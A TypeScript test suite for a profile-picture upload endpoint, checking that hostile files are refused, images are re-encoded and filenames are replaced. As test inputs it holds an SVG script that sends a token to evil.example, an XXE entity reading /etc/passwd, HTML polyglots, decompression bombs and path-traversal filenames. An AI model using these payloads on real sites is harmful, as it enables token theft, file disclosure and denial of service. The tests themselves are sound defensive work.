// Profile pictures, a file any member sends that every member's browser shows: the type is read
// from the bytes, SVG is refused, pixels are bounded before decoding, the picture is re-encoded, and
// the stored name is made by the server.
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { makeTestApp, type TestApp } from '../testing/test-app';
import { bitmapPng, headerOnlyPng, pictureForm, smallPng, textChunk } from '../testing/pictures';

const STORED_NAME = /^\/uploads\/[a-f0-9]{32}\.webp$/;

async function upload(t: TestApp, token: string, form: FormData) {
  return t.call('POST', '/api/users/profile-picture', { token, body: form });
}

async function memberApp() {
  const t = makeTestApp();
  const u = await t.createUser();
  const pictureOf = () => t.userRow(u.id)!.profilePictureUrl;
  return { t, u, pictureOf };
}

function expectRefusedCleanly(res: { status: number; body: unknown }, t: TestApp) {
  expect(res.status).toBeGreaterThanOrEqual(400);
  expect(res.status).toBeLessThan(500);
  expect(res.body).toEqual({ error: expect.any(String) });
  expect(readdirSync(t.deps.uploadsDir)).toEqual([]);
}

describe('refused uploads', () => {
  const svgWithScript = Buffer.from(
    '<?xml version="1.0" encoding="UTF-8"?>\n' +
      '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200" onload="alert(document.cookie)">' +
      '<script type="text/javascript">fetch("https://evil.example/?c="+localStorage.token)</script>' +
      '<rect width="200" height="200" fill="red"/></svg>',
  );
  const htmlPage = Buffer.from('<!doctype html><html><body><script>alert(1)</script><p>not a picture</p></body></html>');
  const xxeSvg = Buffer.from(
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' +
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><text>&x;</text></svg>',
  );

  it.each([
    ['SVG with a script, as SVG', () => pictureForm(svgWithScript, 'logo.svg', 'image/svg+xml')],
    ['SVG with a script, named .png', () => pictureForm(svgWithScript, 'logo.png', 'image/png')],
    ['SVG with an external entity', () => pictureForm(xxeSvg, 'x.png', 'image/png')],
    ['HTML renamed .png', () => pictureForm(htmlPage, 'page.png', 'image/png')],
    ['HTML renamed .jpg with a JPEG label', () => pictureForm(htmlPage, 'page.jpg', 'image/jpeg')],
    ['an empty file', () => pictureForm(new Uint8Array(0), 'empty.png', 'image/png')],
    ['a PNG signature followed by junk', () => pictureForm(Buffer.concat([headerOnlyPng(1, 1).subarray(0, 8), htmlPage]), 'x.png')],
  ])('%s', async (_name, form) => {
    const { t, u, pictureOf } = await memberApp();
    const res = await upload(t, u.token, form());
    expectRefusedCleanly(res, t);
    expect(pictureOf()).toBeNull();
  });

  it('a 6 MB file answers 413', async () => {
    const { t, u, pictureOf } = await memberApp();
    const big = Buffer.alloc(6 * 1024 * 1024);
    (await smallPng()).copy(big);
    const res = await upload(t, u.token, pictureForm(big, 'big.png'));
    expect(res.status).toBe(413);
    expectRefusedCleanly(res, t);
    expect(pictureOf()).toBeNull();
  });

  describe('decompression bombs', () => {
    let sharpBomb: Buffer;
    beforeAll(async () => {
      sharpBomb = await sharp({ create: { width: 10000, height: 10000, channels: 3, background: '#ffffff' } })
        .png()
        .toBuffer();
    }, 30_000);

    it('a 10000 x 10000 single-colour PNG made by sharp is refused with 4xx', async () => {
      const { t, u, pictureOf } = await memberApp();
      expect(sharpBomb.length).toBeLessThan(1024 * 1024);
      const res = await upload(t, u.token, pictureForm(sharpBomb, 'bomb.png'));
      expectRefusedCleanly(res, t);
      expect(pictureOf()).toBeNull();
    });

    it('a few-KB 1-bit PNG of 10000 x 10000 pixels is refused with 4xx', async () => {
      const { t, u } = await memberApp();
      const bomb = bitmapPng(10000, 10000);
      expect(bomb.length).toBeLessThan(64 * 1024);
      expect(await sharp(bomb, { limitInputPixels: false }).metadata()).toMatchObject({ width: 10000, height: 10000 });
      expectRefusedCleanly(await upload(t, u.token, pictureForm(bomb, 'bomb.png')), t);
    });

    it('a bare header claiming 100000 x 100000 pixels is refused with 4xx', async () => {
      const { t, u } = await memberApp();
      expectRefusedCleanly(await upload(t, u.token, pictureForm(headerOnlyPng(100000, 100000), 'h.png')), t);
    });

    it('a GIF header claiming 65535 x 65535 pixels is refused with 4xx', async () => {
      const { t, u } = await memberApp();
      const gif = Buffer.from([
        ...Buffer.from('GIF89a'), 0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00,
        0x2c, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0x00,
        0x02, 0x02, 0x44, 0x01, 0x00, 0x3b,
      ]);
      expectRefusedCleanly(await upload(t, u.token, pictureForm(gif, 'g.gif', 'image/gif')), t);
    });

    it('just under the pixel cap is still accepted (the cap is not a blanket refusal)', async () => {
      const { t, u } = await memberApp();
      const res = await upload(t, u.token, pictureForm(bitmapPng(6000, 6000), 'ok.png'));
      expect(res.status).toBe(200);
    });
  });
});

describe('broken multipart bodies', () => {
  it.each([
    ['no boundary', 'multipart/form-data', '--x\r\nContent-Disposition: form-data; name="profilePicture"; filename="a.png"\r\n\r\nabc\r\n--x--'],
    ['unterminated part', 'multipart/form-data; boundary=x', '--x\r\nContent-Disposition: form-data; name="profilePicture"; filename="a.png"\r\n\r\nabc'],
    ['garbage', 'multipart/form-data; boundary=x', '\u0000\u0001 not multipart at all'],
    ['field as text, not a file', 'multipart/form-data; boundary=x', '--x\r\nContent-Disposition: form-data; name="profilePicture"\r\n\r\n<script>alert(1)</script>\r\n--x--\r\n'],
  ])('%s answers 4xx', async (_name, type, body) => {
    const { t, u } = await memberApp();
    const res = await t.call('POST', '/api/users/profile-picture', { token: u.token, body, headers: { 'content-type': type } });
    expectRefusedCleanly(res, t);
  });
});

describe('what gets stored', () => {
  const tricks = [
    '../../etc/passwd.png',
    '..\\x.png',
    '..\\..\\..\\windows\\win.ini.png',
    '/etc/cron.d/evil.png',
    'a/../../b.png',
    '%2e%2e%2f%2e%2e%2fx.png',
    'x.png\u0000.html',
    'evil.html',
    `${'a'.repeat(400)}.png`,
  ];

  it.each(tricks.map((n) => [n] as const))('filename %j: stored under a server-made name inside the uploads dir', async (filename) => {
    const { t, u, pictureOf } = await memberApp();
    const res = await upload(t, u.token, pictureForm(await smallPng(), filename));
    expect(res.status).toBe(200);
    const url: string = res.body.profilePictureUrl;
    expect(url).toMatch(STORED_NAME);
    expect(pictureOf()).toBe(url);
    const name = url.slice('/uploads/'.length);
    expect(readdirSync(t.deps.uploadsDir)).toEqual([name]);
    const stored = resolve(t.deps.uploadsDir, name);
    expect(dirname(stored)).toBe(resolve(t.deps.uploadsDir));
    // Nothing was written where the given name points.
    const base = filename.replace(/\0.*$/, '').split(/[\\/]/).pop()!;
    expect(existsSync(resolve(t.deps.uploadsDir, filename.replace(/\0.*$/, '')))).toBe(false);
    expect(existsSync(join(dirname(t.deps.uploadsDir), base))).toBe(false);
  });

  it('re-encodes a PNG that carries a script, so the stored file holds none of it', async () => {
    const { t, u } = await memberApp();
    const script = '<script>alert(1)</script>';
    const polyglot = Buffer.concat([bitmapPng(32, 32, [textChunk('Comment', `${script}<html>`)]), Buffer.from(`<html>${script}</html>`)]);
    const res = await upload(t, u.token, pictureForm(polyglot, 'poly.png', 'text/html'));
    expect(res.status).toBe(200);
    const stored = readFileSync(join(t.deps.uploadsDir, res.body.profilePictureUrl.slice('/uploads/'.length)));
    expect(stored.includes(Buffer.from('script'))).toBe(false);
    expect(stored.includes(Buffer.from('html'))).toBe(false);
    expect((await sharp(stored).metadata()).format).toBe('webp');
  });
});
